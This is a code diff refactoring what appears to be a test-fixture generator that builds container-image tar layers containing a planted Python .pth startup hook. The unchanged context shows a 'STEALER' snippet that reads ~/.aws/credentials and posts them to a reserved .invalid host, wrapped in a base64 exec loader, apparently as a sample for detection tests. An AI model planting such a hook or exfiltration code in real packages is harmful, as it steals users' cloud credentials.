@@ -32,6 +32,7 @@ The hooks are text that is never run: a decoded exec of a credential sweep that 
 host of the reserved `.invalid` domain.
 """
 
+import base64
 import gzip
 import hashlib
 import io
@@ -50,8 +51,6 @@ STEALER = (
     b"keys.append(open(os.path.expanduser('~/.aws/credentials')).read())\n"
     b"urllib.request.urlopen('https://models.litellm.invalid/', data='\\n'.join(keys).encode())\n"
 )
-import base64  # noqa: E402
-
 PLANTED = (
     b"import os, base64; exec(base64.b64decode('"
     + base64.b64encode(STEALER)
@@ -91,12 +90,17 @@ def tar_of(files):
                     info.mode = 0o755
                     info.mtime = MTIME
                     t.addfile(info)
-            info = tarfile.TarInfo(name)
-            info.size = len(data)
-            info.mode = 0o644
-            info.mtime = MTIME
-            t.addfile(info, io.BytesIO(data))
+            add_file(t, name, data)
     return buf.getvalue()
+
+
+def add_file(t, name, data):
+    """A regular file of the planted layers: mode 0644, written at MTIME."""
+    info = tarfile.TarInfo(name)
+    info.size = len(data)
+    info.mode = 0o644
+    info.mtime = MTIME
+    t.addfile(info, io.BytesIO(data))
 
 
 def gz(data):
@@ -127,11 +131,7 @@ def squash(rootfs):
         for m in src:
             t.addfile(m, src.extractfile(m) if m.isreg() else None)
         for name, data in [(DIST + "/litellm_init.pth", PLANTED), (LOCAL + "/gone.pth", GONE_AGAIN)]:
-            info = tarfile.TarInfo(name)
-            info.size = len(data)
-            info.mode = 0o644
-            info.mtime = MTIME
-            t.addfile(info, io.BytesIO(data))
+            add_file(t, name, data)
     return buf.getvalue()
 
 
